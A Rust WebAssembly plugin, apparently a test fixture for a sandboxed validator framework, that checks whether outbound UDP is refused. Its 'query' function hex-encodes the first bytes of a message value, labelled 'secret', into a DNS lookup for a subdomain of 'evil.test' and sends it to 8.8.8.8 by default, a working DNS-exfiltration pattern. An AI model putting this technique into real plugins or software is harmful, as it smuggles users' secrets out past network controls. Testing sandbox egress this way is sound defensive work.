//! Sends a query to a name server of its own choice, by default 8.8.8.8:53, with the first bytes of the value in the name. Rejects with the
//! WASI code where it is refused, and passes where the datagram left.

#![cfg(target_arch = "wasm32")]

use std::net::SocketAddr;

use portcullis_plugin::bindings::convert;
use portcullis_plugin::bindings::net::wasi::sockets::instance_network::instance_network;
use portcullis_plugin::bindings::net::wasi::sockets::network::ErrorCode;
use portcullis_plugin::bindings::net::wasi::sockets::udp::OutgoingDatagram;
use portcullis_plugin::bindings::net::wasi::sockets::udp_create_socket::create_udp_socket;
use portcullis_plugin::{Message, Verdict, validator};

portcullis_plugin::manifest! { validator, egress: "asks a name server" }

#[derive(serde::Deserialize)]
struct Config {
    #[serde(default = "resolver")]
    to: SocketAddr,
}

fn resolver() -> SocketAddr {
    ([8, 8, 8, 8], 53).into()
}

#[validator]
fn sends_udp_to_a_resolver(message: &Message, config: &Config) -> Verdict {
    if message.value().is_some_and(|value| value.starts_with(b"ok")) {
        return Verdict::pass();
    }
    match send(config.to, query(message.value().unwrap_or_default())) {
        Ok(_) => Verdict::pass(),
        Err(code) => Verdict::reject(code.name(), "udp"),
    }
}

fn send(to: SocketAddr, data: Vec<u8>) -> Result<u64, ErrorCode> {
    let any: SocketAddr = if to.is_ipv4() { ([0; 4], 0).into() } else { ([0_u16; 8], 0).into() };
    let socket = create_udp_socket(convert::family(to))?;
    socket.start_bind(&instance_network(), convert::socket_address(any))?;
    socket.finish_bind()?;
    let (_incoming, outgoing) = socket.stream(None)?;
    outgoing.check_send()?;
    outgoing.send(&[OutgoingDatagram { data, remote_address: Some(convert::socket_address(to)) }])
}

/// A query for the address of `<hex>.evil.test`.
fn query(secret: &[u8]) -> Vec<u8> {
    let label: String = secret.iter().take(16).map(|byte| format!("{byte:02x}")).collect();
    let mut packet = vec![0x12, 0x34, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0];
    for label in [label.as_str(), "evil", "test", ""] {
        packet.push(u8::try_from(label.len()).unwrap_or(0));
        packet.extend_from_slice(label.as_bytes());
    }
    packet.extend([0, 1, 0, 1]);
    packet
}
